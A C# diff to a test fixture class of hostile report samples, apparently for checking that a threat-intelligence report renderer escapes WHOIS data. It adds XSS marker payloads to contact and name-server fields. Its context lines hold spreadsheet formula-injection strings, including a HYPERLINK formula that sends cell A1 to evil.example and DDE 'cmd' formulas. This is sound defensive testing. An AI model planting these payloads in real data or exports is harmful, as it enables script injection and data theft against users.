@@ -16,6 +16,10 @@ public static class ReportSamples
     public const string HyperlinkFormula = "=HYPERLINK(\"http://evil.example/x?\"&A1,\"Click\")";
     public const string CommandFormula = "+cmd|' /C calc'!A0";
     public const string ArithmeticFormula = "-2+3";
+    /// <summary>Would set window.kumatipPwned if any of it ever ran; the browser test checks that it stays unset.</summary>
+    public const string MarkerScript = "<script>window.kumatipPwned = 'script'</script>";
+    public const string MarkerImage = "\"'><img src=x onerror=\"window.kumatipPwned='img';alert('img')\">";
+    public const string MarkerSvg = "<svg onload=\"window.kumatipPwned='svg'\"></svg>";
     public const string SumFormula = "@SUM(1+1)*cmd|' /C calc'!A0";
 
     public static IReadOnlyList<TipLookupResult> All() => new[] { Domain(), Ip(), Hash(), Url(), NotFound(), Hostile() };
@@ -159,12 +163,13 @@ public static class ReportSamples
         WhoIs = new DomainWhoIsInfo
         {
             DomainName = "pwn-whois.example",
-            NameServers = new() { ScriptPayload, "ns1.pwn-whois.example" },
+            NameServers = new() { ScriptPayload, MarkerSvg, "ns1.pwn-whois.example" },
             RegistrationOrganization = ArithmeticFormula,
             Registrar = new Registrar { Info = SumFormula, Email = AttributePayload },
             Contacts = new()
             {
                 new() { ContactType = "registrant", Name = ScriptPayload, Organization = AttributePayload, Email = JavascriptUrl, Address = "\tTabbed", City = "\rCarriage" },
+                new() { ContactType = "admin", Name = MarkerScript, Organization = MarkerImage, Phone = "<a href=\"javascript:window.kumatipPwned='a'\">call</a>", Email = "<link rel=stylesheet href=http://127.0.0.1:9/x.css>" },
             },
         },
         Raw = "{\"Zone\":\"Green\",\"DomainWhoIsInfo\":{\"Contacts\":[{\"Name\":\"<script>alert(1)</script>\"}]}}",
